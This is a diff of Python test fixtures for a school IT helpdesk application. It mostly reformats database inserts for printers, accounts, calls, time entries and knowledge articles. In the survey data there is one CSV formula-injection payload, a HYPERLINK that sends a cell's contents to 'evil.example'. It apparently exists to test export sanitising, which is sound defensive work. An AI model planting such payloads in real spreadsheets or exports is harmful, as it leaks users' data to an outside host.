@@ -24,8 +24,6 @@ from __future__ import annotations
 
 from datetime import datetime
 
-import pytest
-
 from kit import settings
 from kit.auth import store as accounts
 from kit.calls import workflow
@@ -57,29 +55,59 @@ def _log(make_call, clock, moment: datetime, category: str, summary: str, **fiel
 
 
 def _assets(db, school: School) -> None:
-    room = db["locations"].insert({"site": "Main site", "building": "Old", "room": "Office",
-                                   "teaching_space": 0}).last_pk
+    room = (
+        db["locations"]
+        .insert({"site": "Main site", "building": "Old", "room": "Office", "teaching_space": 0})
+        .last_pk
+    )
     for tag in ("PRN-1", "PRN-2", "PRN-3"):
-        school.assets[tag] = db["equipment"].insert({
-            "asset_tag": tag, "type": "Printer", "make": "HP", "model": "M507",
-            "location_id": room, "serial": "", "supplier": "HP"}).last_pk
+        school.assets[tag] = (
+            db["equipment"]
+            .insert(
+                {
+                    "asset_tag": tag,
+                    "type": "Printer",
+                    "make": "HP",
+                    "model": "M507",
+                    "location_id": room,
+                    "serial": "",
+                    "supplier": "HP",
+                }
+            )
+            .last_pk
+        )
 
 
 def _account(db, users, username: str, role: str) -> int:
     """An account that never logs in here: no password hash to work out (0.6 s each)."""
-    user_id = db["users"].insert({"username": username, "name": username.title(),
-                                  "email": f"{username}@school.example", "password_hash": "-",
-                                  "roles": role, "active": 1, "session_version": 0,
-                                  "created_at": ""}).last_pk
+    user_id = (
+        db["users"]
+        .insert(
+            {
+                "username": username,
+                "name": username.title(),
+                "email": f"{username}@school.example",
+                "password_hash": "-",
+                "roles": role,
+                "active": 1,
+                "session_version": 0,
+                "created_at": "",
+            }
+        )
+        .last_pk
+    )
     users.ids[username] = user_id
     return user_id
 
 
-def _finish(db, call_id: int, *, responded=None, resolved=None, closed=None, status=None,
-            owner=None) -> None:
-    values = {"responded_at": stamp(responded) if responded else None,
-              "resolved_at": stamp(resolved) if resolved else None,
-              "closed_at": stamp(closed) if closed else None}
+def _finish(
+    db, call_id: int, *, responded=None, resolved=None, closed=None, status=None, owner=None
+) -> None:
+    values = {
+        "responded_at": stamp(responded) if responded else None,
+        "resolved_at": stamp(resolved) if resolved else None,
+        "closed_at": stamp(closed) if closed else None,
+    }
     values["status"] = status or ("Closed" if closed else "Resolved" if resolved else "Assigned")
     if owner:
         values.update(assignee_id=owner, routed_at=db["calls"].get(call_id)["logged_at"])
@@ -89,41 +117,68 @@ def _finish(db, call_id: int, *, responded=None, resolved=None, closed=None, sta
 def build(app, db, users, clock, make_call) -> School:
     school = School()
     _assets(db, school)
-    settings.put(db, "terms", [{"name": "Autumn 2026", "start": "2026-09-03",
-                                "end": "2026-12-18"}], user_id=None, at="2026-09-01 00:00:00")
-    tech, tina, desk = (_account(db, users, name, role) for name, role in (
-        ("technician", "technician"), ("tina", "technician"), ("desk", "desk")))
+    settings.put(
+        db,
+        "terms",
+        [{"name": "Autumn 2026", "start": "2026-09-03", "end": "2026-12-18"}],
+        user_id=None,
+        at="2026-09-01 00:00:00",
+    )
+    tech, tina, desk = (
+        _account(db, users, name, role)
+        for name, role in (("technician", "technician"), ("tina", "technician"), ("desk", "desk"))
+    )
     printer, email, reset = "Printer or copier", "Email", "Password reset or locked account"
     c = school.calls
     c["G"] = _log(make_call, clock, at(13, 9), printer, "Old printer call")
-    c["A"] = _log(make_call, clock, at(MON, 9), printer, "Printer A",
-                  equipment_id=school.assets["PRN-1"])
-    c["B"] = _log(make_call, clock, at(MON, 9), printer, "Printer B",
-                  equipment_id=school.assets["PRN-1"])
-    c["C"] = _log(make_call, clock, at(TUE, 8), printer, "Printer C",
-                  equipment_id=school.assets["PRN-2"])
-    c["V"] = _log(make_call, clock, at(TUE, 10), printer, "Voided call",
-                  equipment_id=school.assets["PRN-1"])
+    c["A"] = _log(
+        make_call, clock, at(MON, 9), printer, "Printer A", equipment_id=school.assets["PRN-1"]
+    )
+    c["B"] = _log(
+        make_call, clock, at(MON, 9), printer, "Printer B", equipment_id=school.assets["PRN-1"]
+    )
+    c["C"] = _log(
+        make_call, clock, at(TUE, 8), printer, "Printer C", equipment_id=school.assets["PRN-2"]
+    )
+    c["V"] = _log(
+        make_call, clock, at(TUE, 10), printer, "Voided call", equipment_id=school.assets["PRN-1"]
+    )
     c["D"] = _log(make_call, clock, at(WED, 9), email, "Email D")
     c["E"] = _log(make_call, clock, at(THU, 16), email, "Email E")
     c["F"] = _log(make_call, clock, at(FRI, 10), reset, "Password F")
     _finish(db, c["A"], responded=at(MON, 10), resolved=at(MON, 13), owner=tech)
-    _finish(db, c["B"], responded=at(MON, 11), resolved=at(TUE, 9), closed=at(TUE, 10),
-            owner=tech)
+    _finish(db, c["B"], responded=at(MON, 11), resolved=at(TUE, 9), closed=at(TUE, 10), owner=tech)
     _finish(db, c["C"], responded=at(TUE, 14), resolved=at(FRI, 12), owner=tech)
-    db["call_pauses"].insert({"call_id": c["C"], "started_at": stamp(at(WED, 8)),
-                              "ended_at": stamp(at(THU, 8))})
+    db["call_pauses"].insert(
+        {"call_id": c["C"], "started_at": stamp(at(WED, 8)), "ended_at": stamp(at(THU, 8))}
+    )
     _finish(db, c["D"], responded=at(WED, 15), resolved=at(THU, 12), owner=tina)
     _finish(db, c["E"], owner=tina)
     db["calls"].update(c["V"], {"voided": 1})
     # D was resolved by a desk account, but it had been passed on: not a first-contact fix.
-    db["call_events"].insert({"call_id": c["D"], "at": stamp(at(THU, 12)), "user_id": desk,
-                              "kind": "resolved", "changes": "{}", "text": ""})
+    db["call_events"].insert(
+        {
+            "call_id": c["D"],
+            "at": stamp(at(THU, 12)),
+            "user_id": desk,
+            "kind": "resolved",
+            "changes": "{}",
+            "text": "",
+        }
+    )
     desk_user = accounts.load_user(db, accounts.get_user_row(db, desk))
     with app.test_request_context():
-        workflow.resolve(db, c["F"], summary="Reset the password", details="",
-                         closure_category="Fixed", customer_confirmed=True,
-                         confirmation_exception=None, user=desk_user, at=at(FRI, 10, 30))
+        workflow.resolve(
+            db,
+            c["F"],
+            summary="Reset the password",
+            details="",
+            closure_category="Fixed",
+            customer_confirmed=True,
+            confirmation_exception=None,
+            user=desk_user,
+            at=at(FRI, 10, 30),
+        )
     _time_entries(db, c, tech, tina)
     _third_parties(db, c)
     _articles(db, school, desk)
@@ -133,11 +188,22 @@ def build(app, db, users, clock, make_call) -> School:
 
 
 def _time_entries(db, c, tech, tina) -> None:
-    for call, user, day, minutes in (("A", tech, MON, 30), ("C", tech, WED, 90),
-                                     ("D", tina, THU, 45), ("A", tech, 13, 20)):
-        db["time_entries"].insert({"call_id": c[call], "user_id": user,
-                                   "worked_on": f"2026-11-{day:02d}", "minutes": minutes,
-                                   "note": "", "created_at": "2026-11-20 17:00:00"})
+    for call, user, day, minutes in (
+        ("A", tech, MON, 30),
+        ("C", tech, WED, 90),
+        ("D", tina, THU, 45),
+        ("A", tech, 13, 20),
+    ):
+        db["time_entries"].insert(
+            {
+                "call_id": c[call],
+                "user_id": user,
+                "worked_on": f"2026-11-{day:02d}",
+                "minutes": minutes,
+                "note": "",
+                "created_at": "2026-11-20 17:00:00",
+            }
+        )
 
 
 def _third_parties(db, c) -> None:
@@ -146,22 +212,47 @@ def _third_parties(db, c) -> None:
         ("D", "vendor", "Net Co", at(WED, 10), at(THU, 10), at(THU, 12)),
         ("E", "vendor", "Net Co", at(FRI, 9), at(FRI, 12), None),
     ):
-        db["third_parties"].insert({"call_id": c[call], "kind": kind, "name": name,
-                                    "contact": "", "what_they_will_do": "fix",
-                                    "expected_by": stamp(expected), "created_at": stamp(created),
-                                    "ended_at": stamp(ended) if ended else None})
+        db["third_parties"].insert(
+            {
+                "call_id": c[call],
+                "kind": kind,
+                "name": name,
+                "contact": "",
+                "what_they_will_do": "fix",
+                "expected_by": stamp(expected),
+                "created_at": stamp(created),
+                "ended_at": stamp(ended) if ended else None,
+            }
+        )
 
 
 def _articles(db, school: School, desk: int) -> None:
     for key, title in (("X", "Clearing a paper jam"), ("Y", "Email stuck in outbox")):
-        school.articles[key] = db["articles"].insert({
-            "slug": title.lower().replace(" ", "-"), "title": title, "audience": "staff",
-            "status": "published", "revision": 1, "created_at": "2026-11-01 09:00:00",
-            "updated_at": "2026-11-01 09:00:00"}).last_pk
+        school.articles[key] = (
+            db["articles"]
+            .insert(
+                {
+                    "slug": title.lower().replace(" ", "-"),
+                    "title": title,
+                    "audience": "staff",
+                    "status": "published",
+                    "revision": 1,
+                    "created_at": "2026-11-01 09:00:00",
+                    "updated_at": "2026-11-01 09:00:00",
+                }
+            )
+            .last_pk
+        )
     for call, article in (("A", "X"), ("B", "X"), ("D", "Y")):
-        db["call_articles"].insert({"call_id": school.calls[call],
-                                    "article_id": school.articles[article], "linked_by": desk,
-                                    "linked_at": "2026-11-20 09:00:00", "solved": 1})
+        db["call_articles"].insert(
+            {
+                "call_id": school.calls[call],
+                "article_id": school.articles[article],
+                "linked_by": desk,
+                "linked_at": "2026-11-20 09:00:00",
+                "solved": 1,
+            }
+        )
 
 
 def _surveys(db, c) -> None:
@@ -169,14 +260,16 @@ def _surveys(db, c) -> None:
         ("A", 5, 1, 1, '=HYPERLINK("http://evil.example/?"&A1)'),
         ("D", 2, 0, 0, "Took two days"),
     ):
-        db["surveys"].insert({"call_id": c[call], "satisfaction": score, "fixed": fixed,
-                              "time_ok": time_ok, "comment": comment,
-                              "submitted_at": "2026-11-20 15:00:00"})
-
-
-@pytest.fixture
-def school(app, db, users, clock, make_call) -> School:
-    return build(app, db, users, clock, make_call)
+        db["surveys"].insert(
+            {
+                "call_id": c[call],
+                "satisfaction": score,
+                "fixed": fixed,
+                "time_ok": time_ok,
+                "comment": comment,
+                "submitted_at": "2026-11-20 15:00:00",
+            }
+        )
 
 
 def csv_sections(text: str) -> dict[str, list[list[str]]]:
